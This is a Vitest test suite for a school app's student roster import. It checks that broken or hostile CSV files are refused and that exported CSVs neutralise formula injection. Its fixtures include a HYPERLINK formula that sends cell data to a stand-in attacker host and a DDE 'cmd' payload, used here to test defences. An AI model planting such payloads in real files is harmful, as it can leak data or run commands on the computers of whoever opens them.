// Broken and hostile roster files through the real import route (POST /api/students/import):
// each is refused with a 4xx and a sentence saying what to do, in the preview and on commit,
// with nothing written and the service answering normally afterwards. Formula-like names are
// stored as typed and leave every CSV export (Pronote, detailed, access codes) as plain text.
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSchool, createStaff, createTestEnv, staffClient, type Client, type TestEnv } from "../harness.js";
import { doubleEncoded, mixedEncodings, noise, ROSTER_HEADER, rosterText, studentRow, utf16, windows1252, xlsxLike } from "./bad-files.js";

let env: TestEnv;
let admin: Client;
let schoolId: string;

beforeAll(async () => {
  env = await createTestEnv();
  schoolId = (await createSchool(env.ctx)).id;
  admin = await staffClient(env.app, (await createStaff(env.ctx, schoolId, "ADMIN")).email);
});
afterAll(() => env.close());

const SCHOOL_YEAR = "2026-2027";
const GOOD_ROWS = [ROSTER_HEADER, ["DUPONT", "Léa", "2nde A", "03/05/2010", ""], ["MARTIN", "Noé", "2nde A", "04/05/2010", ""]];

function importFile(content: Buffer | string, body: Record<string, unknown> = {}) {
  const base64 = Buffer.isBuffer(content) ? content.toString("base64") : content;
  return admin.agent.post("/api/students/import").set("X-CSRF-Token", admin.csrf).send({ content: base64, schoolYear: SCHOOL_YEAR, ...body });
}

/** What an import writes: students, their enrollments, the audit line. */
async function written() {
  const [students, enrollments, audits] = await Promise.all([
    env.ctx.db.student.count({ where: { schoolId } }),
    env.ctx.db.enrollment.count({ where: { schoolId } }),
    env.ctx.db.auditLog.count({ where: { schoolId, action: "students.roster_imported" } }),
  ]);
  return { students, enrollments, audits };
}

/** The API answers, its database and Redis are fine, and an ordinary roster still previews. */
async function expectHealthy() {
  await admin.agent.get("/api/health/live").expect(200);
  const health = await admin.agent.get("/api/health").expect(200);
  expect(health.body.checks).toMatchObject({ database: { ok: true }, migrations: { ok: true }, redis: { ok: true } });
  const preview = await importFile(Buffer.from(rosterText(GOOD_ROWS))).expect(200);
  expect(preview.body.counts.rejected).toBe(0);
}

/** Refused the same way in the preview and on commit, in the one error shape, with nothing written. */
async function expectRefused(content: Buffer | string, expected: { status: number; code: string; message: RegExp }) {
  const before = await written();
  for (const commit of [false, true]) {
    const res = await importFile(content, { commit });
    expect({ commit, status: res.status, code: res.body.error?.code }).toEqual({ commit, status: expected.status, code: expected.code });
    expect(res.body.error).toEqual({ code: expected.code, message: expect.stringMatching(expected.message), requestId: expect.any(String) });
  }
  expect(await written()).toEqual(before);
  await expectHealthy();
}

const ROSTER_UNREADABLE = { status: 422, code: "ROSTER_UNREADABLE" };

describe("files that are not a text roster", () => {
  const text = rosterText(GOOD_ROWS);

  it.each([
    ["UTF-16 LE with a BOM (Excel's « Texte Unicode »)", utf16(text, "le", true)],
    ["UTF-16 LE without a BOM", utf16(text, "le", false)],
    ["UTF-16 BE with a BOM", utf16(text, "be", true)],
    ["UTF-16 BE without a BOM", utf16(text, "be", false)],
  ])("refuses %s, naming the encoding and the format to save in", async (_label, content) => {
    await expectRefused(content, { ...ROSTER_UNREADABLE, message: /^Ce fichier est enregistré en UTF-16 .*« CSV UTF-8 »/ });
  });

  it("refuses a roster whose accents went through the wrong encoding (UTF-8 read as Latin-1, saved again)", async () => {
    const rows = [["Nom", "Prenom", "Classe", "Ne le", "INE"], ["DUPONT", "Lea", "2nde A", "03/05/2010", ""], ["MARTIN", "Noé", "2nde A", "04/05/2010", ""]];
    await expectRefused(doubleEncoded(rosterText(rows)), { ...ROSTER_UNREADABLE, message: /^Le fichier a été mal converti : « NoÃ© » \(ligne 3\)/ });
  });

  it("refuses a file mixing UTF-8 lines with a Windows-1252 line (read whole as Windows-1252, every UTF-8 accent is garbled)", async () => {
    const content = mixedEncodings(GOOD_ROWS, ["ÉLOI", "Zoé", "2nde A", "01/01/2010", ""]);
    await expectRefused(content, { ...ROSTER_UNREADABLE, message: /mélange deux encodages/ });
  });

  it("reads real names in UTF-8 and in Windows-1252 alike (Œ, ’ included): the encoding checks do not misfire", async () => {
    const rows = [ROSTER_HEADER, ["ŒUVRARD", "Chloé", "2nde A", "01/02/2010", ""], ["ÅSTRÖM", "João", "2nde A", "02/02/2010", ""], ["N’DIAYE", "Zoë", "2nde A", "03/02/2010", ""], ["ÇA", "Ève-Ãnne", "2nde A", "04/02/2010", ""]];
    const utf8 = await importFile(Buffer.from(rosterText(rows), "utf8")).expect(200);
    const cp1252 = await importFile(windows1252(rosterText(rows))).expect(200);
    expect([utf8.body.preview.encoding, cp1252.body.preview.encoding]).toEqual(["utf-8", "windows-1252"]);
    const names = (body: { preview: { lines: { student?: { lastName: string; firstName: string } }[] } }) => body.preview.lines.map((l) => `${l.student?.lastName} ${l.student?.firstName}`);
    expect(names(utf8.body)).toEqual(["ŒUVRARD Chloé", "ÅSTRÖM João", "N’DIAYE Zoë", "ÇA Ève-Ãnne"]);
    expect(names(cp1252.body)).toEqual(names(utf8.body));
  });

  it("refuses binary garbage", async () => {
    await expectRefused(noise(20_000, 99), { ...ROSTER_UNREADABLE, message: /^Le fichier contient des caractères invalides \(ligne \d+\) : ce n'est pas un fichier texte CSV/ });
  });

  it("refuses the spreadsheet itself (an .xlsx workbook) instead of its CSV export", async () => {
    await expectRefused(xlsxLike(), { ...ROSTER_UNREADABLE, message: /^Ce fichier est un classeur \(Excel, LibreOffice\), pas un fichier CSV/ });
  });

  it("refuses a file with a NUL byte in a name, naming the line", async () => {
    const content = Buffer.from(rosterText(GOOD_ROWS).replace("MARTIN", "MAR\u0000TIN"));
    await expectRefused(content, { ...ROSTER_UNREADABLE, message: /caractères invalides \(ligne 3\)/ });
  });
});

describe("files of the wrong shape", () => {
  it("refuses a file whose cells are split by a delimiter the import does not know", async () => {
    await expectRefused(Buffer.from(rosterText(GOOD_ROWS, "|")), { ...ROSTER_UNREADABLE, message: /^Le fichier n'a qu'une colonne : .*« Nom\|Prénom\|Classe\|Né\(e\) le\|INE »/ });
  });

  it("refuses a file holding only its header line", async () => {
    await expectRefused(Buffer.from(rosterText([ROSTER_HEADER])), { ...ROSTER_UNREADABLE, message: /^Le fichier ne contient que la ligne d'en-tête : aucun élève à importer\.$/ });
  });

  it("refuses 100 000 lines: over the request size as a real roster, over the line limit as tiny lines", async () => {
    const rows = Array.from({ length: 100_000 }, (_, i) => studentRow(i));
    const full = Buffer.from(rosterText([ROSTER_HEADER, ...rows]));
    expect(full.length).toBeGreaterThan(1024 * 1024);
    await expectRefused(full, { status: 413, code: "PAYLOAD_TOO_LARGE", message: /^La requête est trop volumineuse\.$/ });
    // "a;b" 100 000 times fits in the request: the file is parsed and its line count refused.
    const tiny = Buffer.from(`Nom;Prénom;Classe\n${"a;b\n".repeat(100_000)}`);
    await expectRefused(tiny, { ...ROSTER_UNREADABLE, message: /^Le fichier compte 100000 élèves : au plus 5000 par import\.$/ });
  });

  it("takes exactly 5 000 students, the limit, in one preview", async () => {
    const rows = Array.from({ length: 5000 }, (_, i) => studentRow(i));
    const res = await importFile(Buffer.from(rosterText([ROSTER_HEADER, ...rows]))).expect(200);
    expect(res.body.counts).toEqual({ added: 5000, updated: 0, unchanged: 0, rejected: 0 });
    expect(await written()).toMatchObject({ students: 0 });
  });

  it("rejects the lines whose fields are absurdly long, and imports only the others", async () => {
    const letters = (n: number, seed: number) => [...noise(n, seed)].map((b) => String.fromCharCode(65 + (b % 26))).join("");
    const rows = [
      ROSTER_HEADER,
      ["DUPONT", "Léa", "2nde A", "03/05/2010", ""],
      [letters(300_000, 1), "Noé", "2nde A", "04/05/2010", ""],
      ["MARTIN", "Noé", letters(5000, 2), "05/05/2010", ""],
      ["DURAND", letters(101, 3), "2nde A", "06/05/2010", ""],
    ];
    const before = await written();
    const preview = await importFile(Buffer.from(rosterText(rows))).expect(200);
    expect(preview.body.preview.lines.map((l: { line: number; errors: string[] }) => [l.line, l.errors])).toEqual([
      [2, []],
      [3, ["nom trop long (300000 caractères, au plus 100)"]],
      [4, ["nom de classe trop long (5000 caractères, au plus 50)"]],
      [5, ["prénom trop long (101 caractères, au plus 100)"]],
    ]);
    const committed = await importFile(Buffer.from(rosterText(rows)), { commit: true }).expect(200);
    expect(committed.body.counts).toEqual({ added: 1, updated: 0, unchanged: 0, rejected: 3 });
    expect(await written()).toEqual({ students: before.students + 1, enrollments: before.enrollments + 1, audits: before.audits + 1 });
    const longest = await env.ctx.db.$queryRaw<{ longest: number }[]>`SELECT max(greatest(length("lastName"), length("firstName"), length("className")))::int AS longest FROM "Student" WHERE "schoolId" = ${schoolId}::uuid`;
    expect(longest[0]!.longest).toBeLessThanOrEqual(100);
    await expectHealthy();
  });
});

describe("formula injection", () => {
  // Each name a spreadsheet would run as a formula once exported, or that tries to break out of its cell.
  const HOSTILE: [lastName: string, firstName: string, className: string][] = [
    ['=HYPERLINK("http://attacker.invalid/?v="&A1;"Cliquez ici")', "Léa", "2nde F"],
    ["+33612345678", "Noé", "2nde F"],
    ["-2+3", "Zoé", "2nde F"],
    ["@SOMME(A1:A9)", "Inès", "2nde F"],
    ["\t=1+1", "Tabulation", "2nde F"],
    ["\r=2+2", "Retour", "2nde F"],
    ["  =3+3", "Espaces", "2nde F"],
    ["=cmd|' /C calc'!A0", "Dde", "2nde F"],
    ["DURAND", "=1+1", "2nde F"],
    ['O"BRIEN;=4+4', "Guillemet", "2nde F"],
    ["MARTIN\n=5+5", "Saut", "2nde F"],
    ["LEROY", "Classe", "+2nde G"],
  ];
  const FORMULA_START = /^[=+\-@\t\r]/;
  let examId: string;

  /** Every cell of a CSV export as a spreadsheet splits it (";" between cells, quotes honoured). */
  const cells = (body: Buffer) => {
    const text = body.toString("utf8").replace(/^\uFEFF/, "");
    return Papa.parse<string[]>(text, { delimiter: ";", skipEmptyLines: false }).data;
  };

  beforeAll(async () => {
    const rows = [ROSTER_HEADER, ...HOSTILE.map(([last, first, cls], i) => [last, first, cls, `${String(i + 1).padStart(2, "0")}/03/2010`, ""])];
    const res = await importFile(Buffer.from(rosterText(rows)), { commit: true }).expect(200);
    expect(res.body.counts).toMatchObject({ added: HOSTILE.length, rejected: 0 });
    const exam = await admin.agent.post("/api/exams").set("X-CSRF-Token", admin.csrf)
      .send({ title: "DS", subject: "Maths", date: "2026-11-20", classNames: ["2nde F", "+2nde G"], pagesPerCopy: 2, layout: "A4_BATCH" }).expect(201);
    examId = exam.body.exam.id;
    await admin.agent.put(`/api/exams/${examId}/marking-scheme`).set("X-CSRF-Token", admin.csrf)
      .send({ questions: [{ label: "=SOMME(1;2)", maxPoints: 4 }, { label: "Exercice 2", maxPoints: 16 }], reportScale: 20 }).expect(200);
  });

  it("stores the names as typed, trimmed, without any escaping", async () => {
    const stored = await env.ctx.db.student.findMany({ where: { schoolId, birthDate: { gte: new Date("2010-03-01"), lte: new Date("2010-03-31") } }, orderBy: { birthDate: "asc" } });
    expect(stored.map((s) => [s.lastName, s.firstName, s.className])).toEqual(HOSTILE.map(([last, first, cls]) => [last.trim(), first, cls]));
  });

  it.each([["pronote.csv"], ["detailed.csv"]])("leaves no cell of %s that a spreadsheet would run as a formula", async (file) => {
    const res = await admin.agent.get(`/api/exams/${examId}/exports/${file}`).buffer(true).expect(200);
    const table = cells(Buffer.from(res.text, "utf8"));
    const all = table.flat();
    expect(all.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    // Every hostile name is there, whole in its own cell, behind an apostrophe when it starts like a formula.
    for (const [last, first, cls] of HOSTILE) {
      const shown = (value: string) => (FORMULA_START.test(value.trim()) ? `'${value.trim()}` : value.trim());
      expect(table).toContainEqual(expect.arrayContaining([shown(last), shown(first), shown(cls)]));
    }
    if (file === "detailed.csv") expect(table[0]).toContain("'=SOMME(1;2) (/4)");
  });

  it("leaves no formula in the access codes file either", async () => {
    for (const className of ["2nde F", "+2nde G"]) {
      const issue = await admin.agent.post("/api/access-codes").set("X-CSRF-Token", admin.csrf).send({ className, scope: "all" }).expect(201);
      const res = await admin.agent.get(`/api/access-codes/issues/${issue.body.issue.id}/codes.csv`).buffer(true).expect(200);
      const table = cells(Buffer.from(res.text, "utf8"));
      expect(table.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
      expect(table.length).toBeGreaterThan(1);
    }
  });
});
